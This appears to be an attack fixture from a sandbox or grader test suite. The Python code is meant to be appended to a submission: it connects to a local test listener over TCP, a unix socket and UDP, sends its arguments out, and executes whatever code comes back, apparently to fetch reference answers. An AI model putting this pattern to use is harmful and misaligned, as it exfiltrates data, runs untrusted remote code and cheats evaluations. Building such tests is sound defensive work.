"""Attack socket_fetches_answers: connects to 127.0.0.1:PORT (the test's listener, which serves
the reference source), an abstract unix socket and UDP, sends its argv out, and execs
whatever code comes back.
"""

ATTACK = {
    "base": "stubs",
}

# ---- appended to the submission below this line

import socket as _adv_socket
import sys as _adv_sys

_adv_code = b""
try:
    with _adv_socket.create_connection(("127.0.0.1", int("__ADV_PORT__")), timeout=3) as _s:
        _s.sendall(b"EXFIL tcp " + repr(_adv_sys.argv).encode()[:2000] + b"\n")
        while True:
            _chunk = _s.recv(1 << 16)
            if not _chunk:
                break
            _adv_code += _chunk
except (OSError, ValueError):
    pass
if not _adv_code:
    try:
        with _adv_socket.socket(_adv_socket.AF_UNIX, _adv_socket.SOCK_STREAM) as _s:
            _s.settimeout(3)
            _s.connect("\0" + "__ADV_UNIX__")
            _s.sendall(b"EXFIL unix\n")
            while True:
                _chunk = _s.recv(1 << 16)
                if not _chunk:
                    break
                _adv_code += _chunk
    except (OSError, ValueError):
        pass
try:
    with _adv_socket.socket(_adv_socket.AF_INET, _adv_socket.SOCK_DGRAM) as _s:
        _s.sendto(b"EXFIL udp", ("127.0.0.1", int("__ADV_PORT__")))
except (OSError, ValueError):
    pass
if _adv_code:
    exec(compile(_adv_code.decode(), "<network>", "exec"), globals())
